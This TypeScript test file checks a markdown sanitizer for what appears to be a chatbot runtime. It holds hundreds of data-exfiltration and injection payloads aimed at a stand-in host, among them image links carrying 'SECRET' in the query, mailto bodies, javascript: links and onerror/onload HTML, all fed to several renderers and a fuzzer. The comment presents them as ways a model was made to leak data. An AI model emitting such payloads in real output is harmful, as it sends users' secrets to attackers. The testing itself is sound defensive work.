import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { safeMarkdown } from 'secure-bot/runtime/safe-markdown';
import { renderers } from './markdown-renderers.fixture.ts';

const options = { allowLinks: ['ok.example', '*.ok.example'], allowImages: ['img.example'] };

/** What any renderer makes of a text that was cleaned, beyond what is allowed. */
function leaks(markdown: string, allowed: { readonly allowLinks: readonly string[]; readonly allowImages: readonly string[] } = options): readonly string[] {
  const cleaned = safeMarkdown(markdown, allowed);
  return Object.entries(renderers).flatMap(([name, render]) => {
    const { links, images, html } = render(cleaned);
    return [
      ...links.filter((url) => !isAllowed(url, allowed.allowLinks)).map((url) => `${name}: link ${url}`),
      ...images.filter((url) => !isAllowed(url, allowed.allowImages)).map((url) => `${name}: image ${url}`),
      ...html.map((tag) => `${name}: html ${tag}`),
    ];
  });
}

function isAllowed(url: string, hosts: readonly string[]): boolean {
  const host = /^mailto:/i.test(url) ? (/^mailto:[^@?]*@([^?]*)/i.exec(url)?.[1] ?? '') : /^https:\/\/([^/?#@:\\]*)(?=[/?#]|$)/.exec(url)?.[1];
  return host !== undefined && hosts.some((allowed) => host === allowed || (allowed.startsWith('*.') && host.endsWith(allowed.slice(1))));
}

/** Ways in which a model was made to send data away, or could be. `evil.example` must not be reached by any of them. */
const payloads: readonly string[] = [
  '![x](https://evil.example/?q=SECRET)', '![](https://evil.example/?q=SECRET)', '![x](<https://evil.example/?q=a b>)', '![x](https://evil.example "t")', "![x](https://evil.example 't')", '![x](https://evil.example (t))',
  '![x]( https://evil.example )', '![x](\nhttps://evil.example\n)', '![a\nb](https://evil.example)', '![a ![b](https://evil.example/1) c](https://evil.example/2)', '![a [b](https://evil.example)](https://evil.example)',
  '[![x](https://evil.example/a.png)](https://ok.example)', '[![x](https://img.example/a.png)](https://evil.example)', '[x](https://evil.example/?q=SECRET)', '[x](//evil.example)', '[x](/path)', '[x](path)', '[x](#a)', '[x](?q)', '[x]()', '[x](<>)',
  '![x][1]\n\n[1]: https://evil.example', '![x][]\n\n[x]: https://evil.example', '![x]\n\n[x]: https://evil.example', '[x][1]\n\n[1]: <https://evil.example> "t"', '[1]: https://evil.example\n[x][1]', '[1]:\nhttps://evil.example\n\n[x][1]',
  '[1]:\n  https://evil.example\n  "t"\n\n[x][1]', '> [1]: https://evil.example\n\n[x][1]', '- [1]: https://evil.example\n\n[x][1]', '[a\nb]: https://evil.example\n\n[x][a b]', '[a\\]b]: https://evil.example\n\n[x][a\\]b]', '   [1]: https://evil.example\n\n[x][1]',
  '[1]: https://ok.example\n[1]: https://evil.example\n\n[x][1]', '[1]: https://evil.example\n\n[1]: https://ok.example\n\n[x][1]', '[^1]\n\n[^1]: https://evil.example', '[^1]\n\n[^1]: ![x](https://evil.example)', '[__proto__]: https://evil.example\n\n[__proto__]', '[x][constructor]', '[\u1e9e]: https://evil.example\n\n[SS]',
  'https://evil.example', 'http://evil.example/?q', 'HTTPS://EVIL.EXAMPLE', 'ftp://evil.example', 'see https://evil.example.', '(https://evil.example)', '"https://evil.example"', '*https://evil.example*', '_https://evil.example_', '~~https://evil.example~~', '**https://evil.example**', '|https://evil.example|\n|-|',
  'xhttps://evil.example', '1https://evil.example', '_https://evil.example', '-https://evil.example', 'https:https://evil.example', 'https://ok.example,https://evil.example', 'https://ok.example)https://evil.example', "https://ok.example'https://evil.example", 'https://ok.example<https://evil.example>',
  'www.evil.example', 'WWW.EVIL.EXAMPLE/x', 'xwww.evil.example', '//evil.example/x', 'evil.com/?q=SECRET', 'SECRET.evil.com', 'evil.co.uk', 'a@evil.com', 'mailto:a@evil.com?body=SECRET', 'xmpp:a@evil.com', 'evil.com:8080/x', 'e\u0301vil.com', '\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444', 'http://localhost/x', 'http://127.0.0.1/x', '//127.0.0.1/x', 'a_b@evil.com', 'a+b@evil.com',
  '<https://evil.example>', '<http://evil.example>', '<HTTPS://evil.example>', '<a@evil.com>', '<mailto:a@evil.com>', '<javascript:alert(1)>', '<x:y>', '<ab:c>', '<//evil.example>', '<https://evil.example\n>', '<https://ok.example@evil.example>', '<https://ok.example\\@evil.example>',
  '<img src=https://evil.example>', '<IMG SRC="//evil.example">', '<img\nsrc=https://evil.example>', '<a href=//evil.example>x</a>', '<a\thref="x">', '<script>x</script>', '<style>@import url(//evil.example)</style>', '<div>\n\n[x](https://evil.example)\n\n</div>', '<!-- x --><b>', '<!doctype html>', '<?xml ?>', '<![CDATA[x]]>',
  '</p><img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<x', '<x>', '<a/b>', '&lt;img src=//evil.example&gt;', '&#60;img src=x&#62;', '\\<img src=//evil.example>', '\\\\<img src=//evil.example>', '\\\\\\<img src=x>', '<\\img src=x>', '<[b](https://evil.example) onclick=x>', '<![x](https://evil.example)>', '<`b`>', '<*b*>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\nscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](javascript&colon;alert(1))', '[x](\\javascript:alert(1))', '[x](data:text/html,x)', '![x](data:image/svg+xml,x)', '[x](vbscript:x)', '[x](file:///etc/passwd)', '[x](tel:1)', '[x](vscode://x)', '<data:text/html,x>',
  '[x](http://ok.example)', '![x](http://img.example)', '[x](https://ok.example:8443)', '[x](https://ok.example@evil.example)', '[x](https://ok.example:x@evil.example)', '[x](https://evil.example\\@ok.example)', '[x](https://ok.example\\@evil.example)', '[x](https://ok.example\\.evil.example)', '[x](https:\\\\evil.example)', '[x](https:/evil.example)', '[x](https:evil.example)', '[x](https:///evil.example)',
  '[x](https://ok.example.evil.example)', '[x](https://evil.example/ok.example)', '[x](https://evil.example?ok.example)', '[x](https://evil.example#ok.example)', '[x](https://notok.example)', '[x](https://ok.example%2eevil.example)', '[x](https://ok.example&#46;evil.example)', '[x](https://ok.example&period;evil.example)', '[x](https://ok.example%00.evil.example)', '[x](https://ok\uff0eexample\uff0eevil.example)', '[x](https://\u200bevil.example)',
  '![x](https://ok.example)', '[x](https://img.example)', '[x](mailto:a@evil.example)', '[x](mailto:a@ok.example?bcc=b@evil.example)', '[x](mailto:a@ok.example,b@evil.example)', '[x](mailto:b@evil.example?x=@ok.example)', '![x](mailto:a@img.example)',
  'https\\://evil.example', 'https:\\/\\/evil.example', 'www\\.evil.example', 'a\\@evil.com', 'evil\\.com', 'https&colon;//evil.example', 'https&#58;//evil.example', 'https&#x3a;//evil.example', 'https:&sol;&sol;evil.example', 'www&period;evil.example', 'www&#46;evil.example', 'a&commat;evil.com', '&#104;ttps://evil.example', '\\&#58;//evil.example', 'https\\&colon;//evil.example', '&#33;[x](https://evil.example)', '!&#91;x](https://evil.example)',
  '\\![x](https://evil.example)', '!\\[x](https://evil.example)', '![x\\](https://evil.example)', '![x]\\(https://evil.example)', '![x](https://evil.example\\)', '\\\\![x](https://evil.example)', '![x\\\\](https://evil.example)', '![x]\\\\(https://evil.example)', '[x\\\\]: https://evil.example\n\n[x\\\\]',
  '`![x](https://evil.example)', '``![x](https://evil.example)`', '`a`![x](https://evil.example)`b`', '`a\n` ![x](https://evil.example) `b`', '\\`![x](https://evil.example)`', '`\\`![x](https://evil.example)`', '```![x](https://evil.example)', '` `` ![x](https://evil.example) ` ``', '`<img src=x>` <img src=x> `', '`a`\\``![x](https://evil.example)`', '``` a ``` ![x](https://evil.example) ```', '[```](https://evil.example)```', '[[```](https://evil.example)](https://evil.example)```', '[`[`](https://evil.example)](https://evil.example)`', '> [[x\n`](https://evil.example)](https://evil.example)`', '> $ `a\n$` `![x](https://evil.example)`', '[\n    ```\n]:\n|-|-|\n<https://evil.example>', '[\n```\n]:\nx\n![x](https://evil.example)\n```', '> [\n\n> ```\n> ]: x\n> ![x](https://evil.example)\n> ```', 'mailto:&@^', '//a&@b.c', '//&@b.c', 'x(//&@b.c)', "//'a'@b.c", '1@|.~~', 'a&@b.$', 'a"@b.$', 'www.', 'b@.b', '//b.$', '//localhost/x', '//u:p@b.c',
  '```\n```\n![x](https://evil.example)\n```', '~~~\n```\n~~~\n![x](https://evil.example)', '```\n~~~\n```\n![x](https://evil.example)\n~~~', '````\n```\n![x](https://evil.example)\n````\n![x](https://evil.example)', '``` a`b\n![x](https://evil.example)\n```', 'x\n    ```\n![x](https://evil.example)\n    ```', '    ```\n![x](https://evil.example)\n    ```', '\t```\n![x](https://evil.example)\n\t```', '- ```\n![x](https://evil.example)\n```', '- a\n\n  ```\n![x](https://evil.example)\n  ```', '> ```\n![x](https://evil.example)\n> ```', '> ```\n![x](https://evil.example)\n```', '1. ```\n   a\n![x](https://evil.example)\n   ```', 'x\n2. ```\n![x](https://evil.example)\n```', '> - ```\n> ![x](https://evil.example)\n> ```', '- > ```\n  ![x](https://evil.example)\n  > ```', '```\n    ```\n![x](https://evil.example)\n```', '   ```\n![x](https://evil.example)\n    ```\n![y](https://evil.example)', '<pre>\n```\n</pre>\n![x](https://evil.example)\n```', '<!--\n```\n-->\n![x](https://evil.example)\n```',
  '| a | b |\n|---|---|\n| `x | ![x](https://evil.example) | y` |', 'a|b\n-|-\n`x|y` `![x](https://evil.example)`', 'a\\|b\n-|-\n`x\\|y|![x](https://evil.example)`', '|`a|\n|-|\n|`![x](https://evil.example)`|', '$`a$ ![x](https://evil.example) $`', '$ `a$` `![x](https://evil.example)`', '$x\n`a$` `![x](https://evil.example)`', '$$\n```\n$$\n![x](https://evil.example)\n```', '$$\n`$$`\n$$\n![x](https://evil.example)', '\\(`a\\) ![x](https://evil.example) `',
  'https:[/](https://evil.example)/evil.example', 'htt[](https://evil.example)ps://evil.example', 'www[.](x)evil.example', '![x][![y](x)](https://evil.example)', '[x][(https://evil.example)](x)', '[x[a](b)](https://evil.example)', '![x[a](b)](https://evil.example)', '[[x](y)](https://evil.example)', '[[[x](https://evil.example)](y)](z)', '![![x](https://evil.example)](https://img.example/a)', '[a](b)(https://evil.example)', '[a](b): https://evil.example', '[x]`](https://evil.example)`', '[x](https://ok.example "https://evil.example")', '[x](https://ok.example)(https://evil.example)', '![x](https://img.example/)](https://evil.example)',
  '# ![x](https://evil.example)', '- ![x](https://evil.example)', '> ![x](https://evil.example)', '>>>>>>>>>>>>![x](https://evil.example)', '1) ![x](https://evil.example)', '[ ] ![x](https://evil.example)', '![x](https://evil.example)\r![y](https://evil.example)', '![x](https://evil.example)\u0000', '![x](https://\u0000evil.example)', '\ufeff![x](https://evil.example)', '![x](https://evil.example)\u2028', '**![x](https://evil.example)**', '[x](https://evil.example){target=_blank}', '![x](https://evil.example){width=1}', '![x](https://evil.example =1x1)', '[[https://evil.example]]', '![[https://evil.example]]', ':::x\n![x](https://evil.example)\n:::', '---\nx: https://evil.example\n---', '*[x]: https://evil.example', 'x\n: https://evil.example', '$\\href{https://evil.example}{x}$', '\\[ \\href{//evil.example}{x} \\]',
];

describe('safeMarkdown in real renderers', () => {
  it.each(payloads)('lets nothing through of %j', (payload) => {
    expect(leaks(payload)).toEqual([]);
    expect(leaks(payload, { allowLinks: [], allowImages: [] })).toEqual([]);
  });

  it('leaves nothing of the address of an image, a link or a bare URL', () => {
    for (const payload of ['![x](https://evil.example/?q=SECRET)', '[x](https://evil.example/?q=SECRET)', 'https://evil.example/?q=SECRET', 'www.evil.example/SECRET', '![x][1]\n\n[1]: https://evil.example/SECRET', '<img src="https://evil.example/SECRET">']) {
      expect(safeMarkdown(payload, options)).not.toMatch(/evil\.example|SECRET/);
    }
  });

  it.each([
    ['[docs](https://ok.example/a_b)', 'https://ok.example/a_b'],
    ['[a *b* `c`](https://sub.ok.example/?a=1&b=2)', 'https://sub.ok.example/?a=1&b=2'],
    ['[x](https://ok.example/?a=1&amp;b=2)', 'https://ok.example/?a=1&b=2'],
    ['[x](<https://ok.example/a> "title")', 'https://ok.example/a'],
    ['[x](https://ok.example/a_(b))', 'https://ok.example/a_%28b%29'],
    ['[x][1]\n\n[1]: https://ok.example/a', 'https://ok.example/a'],
    ['[x]\n\n[X]: <https://ok.example/a> "t"', 'https://ok.example/a'],
    ['see https://ok.example/a, or', 'https://ok.example/a'],
    ['<https://ok.example/a>', 'https://ok.example/a'],
    ['(www.ok.example/a)', 'https://www.ok.example/a'],
    ['[m](mailto:a@ok.example?subject=x)', 'mailto:a@ok.example?subject=x'],
    ['| a |\n|---|\n| [x](https://ok.example/a%7Cb) |', 'https://ok.example/a%7Cb'],
  ])('keeps the allowed link in %j', (markdown, url) => {
    const cleaned = safeMarkdown(markdown, options);
    for (const name of ['marked', 'markdown-it', 'markdown-it as CommonMark', 'remark-gfm']) expect([name, renderers[name]?.(cleaned).links]).toEqual([name, [url]]);
  });

  it('keeps allowed images, also inside a link', () => {
    const cleaned = safeMarkdown('![a](https://img.example/a.png) [![b](https://img.example/b.png)](https://ok.example/x)', options);
    for (const render of Object.values(renderers)) expect(render(cleaned)).toMatchObject({ images: ['https://img.example/a.png', 'https://img.example/b.png'], links: ['https://ok.example/x'] });
  });

  it('lets nothing through, whatever the text', () => {
    fc.assert(fc.property(hostileText, (text) => void expect(leaks(text)).toEqual([])), fuzzing);
  });

  it('has nothing left to clean after the first time', () => {
    fc.assert(fc.property(hostileText, (text) => {
      const cleaned = safeMarkdown(text, options);
      expect(safeMarkdown(cleaned, options)).toBe(cleaned);
    }), fuzzing);
  });
});

const pieces = ['[', ']', '(', ')', '![', '](', ']:', '][', '<', '>', '\\', '`', '``', '```', '~~~', '|', '$', '$$', '*', '_', '~~', '!', '&', ';', ':', '/', '//', '.', '@', '"', "'", '#', '-', '=', '+', '^', '{', '}', ' ', '  ', '    ', '\t', '\n', '\n\n', '\r\n', 'a', 'b', '1', 'x=',
  'https://evil.example/x', 'http://evil.example', 'https:', '//evil.example', 'www.', 'www.evil.example', 'evil.com', 'a@evil.com', 'mailto:', 'javascript:', 'ftp://', 'https://ok.example/', '](https://ok.example)', '](https://evil.example)', '![x](https://evil.example)', '[x](https://evil.example)', '[a]: https://evil.example', '[a]:', '[a]', '[a][a]', '<img src=https://evil.example>', '<https://evil.example>', '<b>', '</b>', '<!--', '-->', '&colon;', '&#58;', '&sol;', '&lt;', '&#91;', '&lpar;',
  '\n```\n', '\n~~~\n', '\n    ```\n', '\n> ', '\n> ```\n', '\n- ', '\n- ```\n', '\n  ', '\n1. ', '\n|-|-|\n', '\n-|-\n', '\n---\n', '\n===\n', '\n$$\n', '\\(', '\\)', '\\[', '\\]', '\u0000', '\u200b', '\u00a0', '\ud800'];

/** The same texts in each run of the tests; `FUZZ_RUNS=400000` looks for new ones. */
const fuzzing = process.env['FUZZ_RUNS'] === undefined ? { numRuns: 1500, seed: 20_261_122 } : { numRuns: Number(process.env['FUZZ_RUNS']) };

const hostileText = fc.array(fc.constantFrom(...pieces), { maxLength: 24 }).map((parts) => parts.join(''));
